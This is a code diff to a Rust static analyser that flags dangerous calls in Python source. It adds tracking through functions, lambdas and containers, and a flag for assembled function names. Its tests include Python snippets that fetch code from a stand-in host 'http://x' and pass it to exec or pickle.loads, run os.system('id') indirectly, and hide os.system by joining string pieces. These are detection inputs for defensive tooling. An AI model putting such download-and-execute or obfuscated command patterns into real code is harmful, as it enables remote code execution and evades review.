@@ -1,12 +1,14 @@
 //! Python source: which functions it calls, with what, when, and where the arguments come from.
 //!
 //! This is a tokenizer and a reader of expressions of our own, not a compiler: it follows imports, aliases,
-//! constants and assignments from top to bottom, and text that is put together or decoded from constants. It
-//! does not follow values through functions, containers or branches. What it says is there is there; what a
-//! determined author computes at run time it does not see.
+//! constants and assignments from top to bottom, text that is put together or decoded from constants, values
+//! through functions and lambdas of the same source, and functions held in dictionaries and lists. It does not
+//! decide branches or count loops. What it says is there is there; what a determined author computes at run
+//! time it does not see.
 
 pub mod bytecode;
 mod calls;
+mod functions;
 mod lex;
 mod marshal;
 mod opcodes;
@@ -72,6 +74,8 @@ pub struct Call {
     pub at_import: bool,
     /// It is in code that was itself decoded from a constant.
     pub hidden: bool,
+    /// The name of the function was put together from pieces, or decoded, instead of being written.
+    pub assembled: bool,
 }
 
 impl Call {
@@ -240,6 +244,53 @@ mod tests {
     }
 
     #[test]
+    fn values_flow_through_functions_lambdas_and_containers() {
+        let network = |text: &str| {
+            let script = analyse(text, Role::Script);
+            let found = script.calls.iter().any(|call| {
+                matches!(call.power, Power::Unpickles | Power::Evaluates) && call.origin().network
+            });
+            assert!(found, "{text}: {:?}", script.calls);
+        };
+        network(
+            "import requests, pickle\ndef fetch(u):\n    return requests.get(u).content\npickle.loads(fetch('http://x'))\n",
+        );
+        network(
+            "import requests, pickle\ndef fetch(u):\n    r = requests.get(u)\n    if r.ok:\n        return r.content\n    return b''\ndef load(raw):\n    return pickle.loads(raw)\nload(fetch('http://x'))\n",
+        );
+        network(
+            "import requests, pickle\nf = lambda u: requests.get(u).content\npickle.loads(f('http://x'))\n",
+        );
+        network(
+            "import requests\nclass A:\n    def get(self, u):\n        return requests.get(u).text\n    def run(self, u):\n        exec(self.get(u))\nA().run('http://x')\n",
+        );
+        network(
+            "import urllib.request\ndef a(u): return urllib.request.urlopen(u)\ndef b(u): return a(u).read()\nexec(b('http://x'))\n",
+        );
+        let runs = |text: &str| {
+            let script = analyse(text, Role::Script);
+            let command =
+                |call: &Call| call.power == Power::Runs && call.arguments[0].text.as_deref() == Some("id");
+            assert!(script.calls.iter().any(command), "{text}: {:?}", script.calls);
+        };
+        runs("r = lambda c: __import__('subprocess').getoutput(c)\nr('id')\n");
+        runs("import os\nd = {'a': len, 'run': os.system}\nd['run']('id')\n");
+        runs("import os\nd = [len, os.system]\nd[1]('id')\n");
+        runs("import os\ndef go(f, c):\n    f(c)\ngo(os.system, 'id')\n");
+        runs("import os\n(lambda c: os.system(c))('id')\n");
+        let text = "import os\ndef f():\n    os.system('id')\nf()\n";
+        assert!(
+            analyse(text, Role::Module).calls[0].at_import,
+            "a function that is called at import runs then"
+        );
+        let text = "import os\ndef f():\n    os.system('id')\ndef g():\n    f()\n";
+        assert!(!analyse(text, Role::Module).calls[0].at_import);
+        let text = "m = __import__('o' + 's')\ngetattr(m, 'sys' + 'tem')('id')\n";
+        assert!(analyse(text, Role::Script).calls[0].assembled);
+        assert!(!analyse("import os\ngetattr(os, 'system')('id')\n", Role::Script).calls[0].assembled);
+    }
+
+    #[test]
     fn ordinary_methods_and_words_are_not_calls_of_power() {
         for text in [
             "model.eval()\nmodel.compile(optimizer='adam')\n",
@@ -260,6 +311,11 @@ mod tests {
         let _ = analyse(&"exec('".repeat(20_000), Role::Script);
         let _ = analyse(&"lambda: ".repeat(50_000), Role::Script);
         let _ = analyse(&"f'{".repeat(50_000), Role::Script);
+        let _ = analyse(&"def f(x):\n    return f(f(x))\nf('a')\n".repeat(5_000), Role::Script);
+        let _ = analyse(&"def f(x):\n    exec(x)\nf('f(1)')\n".repeat(5_000), Role::Script);
+        let calls: String =
+            (1..400).map(|n| format!("def f{n}(x):\n    return f{}(x) + f{}(x)\n", n - 1, n - 1)).collect();
+        let _ = analyse(&format!("{calls}f399('a')\n"), Role::Script);
         let _ = analyse("\u{feff}\u{e9}'\\", Role::Script);
     }
 }
